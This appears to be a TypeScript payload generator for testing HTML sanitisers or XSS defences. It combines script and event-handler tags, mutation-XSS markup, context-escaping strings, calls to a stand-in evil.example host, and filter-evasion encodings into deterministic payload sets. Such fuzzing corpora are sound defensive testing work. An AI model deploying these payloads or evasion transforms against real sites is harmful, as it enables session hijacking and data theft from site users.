/**
 * What an attacker wants to happen; each leaves a trace that `watch.ts` sees. `~` below stands for one of
 * them.
 */
const deeds = [
  "alert(1)",
  "__xss(1)",
  "confirm`1`",
  "print()",
  "fetch('https://evil.example/f')",
  "top.location='https://evil.example/t'",
  "new Image().src='https://evil.example/i'",
  "import('https://evil.example/m.js')",
];

/** Markup that acts by itself, or as soon as somebody points at it. */
const tags = [
  "<script>~</script>",
  "<script src=https://evil.example/s.js></script>",
  "<script type=module>~</script>",
  "<img src=x: onerror=~>",
  '<img src=x: onerror="~">',
  "<svg onload=~>",
  "<svg/onload=~//",
  "<svg><script>~</script></svg>",
  "<svg><animate onbegin=~ attributeName=x dur=1s>",
  "<svg><style><img src=x: onerror=~></style>",
  "<svg><foreignObject><img src=x: onerror=~></foreignObject></svg>",
  "<body onload=~>",
  "<body onpageshow=~>",
  "<details open ontoggle=~>",
  "<input autofocus onfocus=~>",
  "<b tabindex=1 autofocus onfocus=~>",
  "<p onmouseover=~>point here</p>",
  "<a href=javascript:~>click</a>",
  '<iframe src="javascript:~"></iframe>',
  '<iframe srcdoc="<script>parent.~</script>"></iframe>',
  "<video><source onerror=~></video>",
  "<audio src=x: onerror=~>",
  '<object data="javascript:~"></object>',
  '<embed src="https://evil.example/e">',
  "<math><mtext></form><form><mglyph><style></math><img src=x: onerror=~>",
  '<math><annotation-xml encoding="text/html"><img src=x: onerror=~></annotation-xml></math>',
  "<style>@import 'https://evil.example/c.css'</style>",
  "<style>*{background:url(https://evil.example/b)}</style>",
  "<link rel=stylesheet href=https://evil.example/l.css>",
  "<link rel=preload as=image href=https://evil.example/p>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/r'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><button autofocus onfocus=~>",
  "<marquee onstart=~>",
  "<style>@keyframes x{}</style><b style='animation:x 1ms' onanimationstart=~>",
  // Mutation: safe as it stands, not once it is serialised and parsed again, or parsed by other rules.
  '<noscript><p title="</noscript><img src=x: onerror=~>">',
  '<svg></p><style><a id="</style><img src=x: onerror=~>">',
  '<xmp><p title="</xmp><img src=x: onerror=~>">',
  '<!--<img src="--><img src=x: onerror=~//">',
  "<template><img src=x: onerror=~></template><img src=x: onerror=~>",
  "<table><td><select><img src=x: onerror=~>",
  "<plaintext><img src=x: onerror=~>",
];

/** What ends the place that the words stand in. */
const exits = [
  "",
  '">',
  "'>",
  "-->",
  "</title>",
  "</style>",
  "</script>",
  "</textarea></noscript>",
  "]]>",
  '"}</script>',
];

/** Where a value is an attribute, a script, a style or an address already. */
const insides = [
  '" onmouseover=~ x="',
  "' onmouseover=~ x='",
  "x onmouseover=~ ",
  '" autofocus tabindex=1 onfocus=~ x="',
  "' autofocus tabindex=1 onfocus=~ x='",
  "` onerror=~ `",
  '" style="animation:x 1ms" onanimationstart="~',
  '" srcset="https://evil.example/s 1x',
  "';~;//",
  '";~;//',
  "\\';~;//",
  "`;~;//",
  "$\u007b~}",
  "`$\u007b~}`",
  "{{constructor.constructor('~')()}}",
  "#{~}",
  "<%= ~ %>",
  '"}]}</script><script>~</script><script>{"a":"',
  "\u2028~//",
  "red;}</style><script>~</script><style>",
  "red}*{background:url(https://evil.example/c)}",
  "red;background:url(https://evil.example/d)",
  "url(javascript:~)",
  "expression(~)",
  "#fff\\3c/style\\3e",
  "javascript:~",
  "JaVaScRiPt:~",
  " javascript:~",
  "\u0001javascript:~",
  "java\tscript:~",
  "java\nscript:~",
  "javascript://%0a~",
  "javascript://example.com/%0d%0a~",
  "data:text/html,<script>~</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='~'/>",
  "vbscript:msgbox(1)",
  'https://evil.example/"onmouseover=~',
  "https://evil.example/'><script>~</script>",
  "https://evil.example/</style><script>~</script>",
  "//evil.example/x",
  "https:evil.example",
  "https://user:pass@evil.example/",
  "view-source:javascript:~",
  "feed:javascript:~",
];

/** Ways to get past what looks for `<`, or for a name. */
const disguises: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replace(/<(\/?)([a-z]+)/gi, (_, end, name) => `<${end}${name.toUpperCase()}`),
  (payload) => payload.replace(/<(\/?)([a-z])([a-z]*)/gi, "<$1$2\u0000$3"),
  (payload) => payload.replaceAll(" ", "/"),
  (payload) => payload.replaceAll(" ", "\u000c"),
  (payload) => payload.replaceAll("<", "&lt;").replaceAll('"', "&quot;"),
  (payload) => payload.replaceAll("<", "&#60").replaceAll('"', "&#x22;"),
  (payload) => payload.replaceAll("<", "&amp;lt;"),
  (payload) => payload.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (payload) => payload.replaceAll("<", "%3C").replaceAll('"', "%22"),
  (payload) => payload.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (payload) => payload.replaceAll("s", "\u017f").replaceAll("<", "<\u200b"),
  (payload) => `\ud800${payload}\udc00`,
  (payload) => `\u202e${payload}\u2066`,
  (payload) => payload.replaceAll("<", "<<"),
];

/** As many payloads as asked for, spread evenly over all that the parts make. The same each time. */
export function makePayloads(count: number): string[] {
  const bodies = [...exits.flatMap((exit) => tags.map((tag) => exit + tag)), ...insides, ...insides];
  const all = [
    ...new Set(
      disguises.flatMap((disguise, turn) =>
        bodies.map((body, at) => disguise(body.replaceAll("~", deeds[(at + turn) % deeds.length] ?? ""))),
      ),
    ),
  ];
  return Array.from({ length: Math.min(count, all.length) }, (_, at) => {
    return all[Math.floor((at * all.length) / count)] ?? "";
  });
}
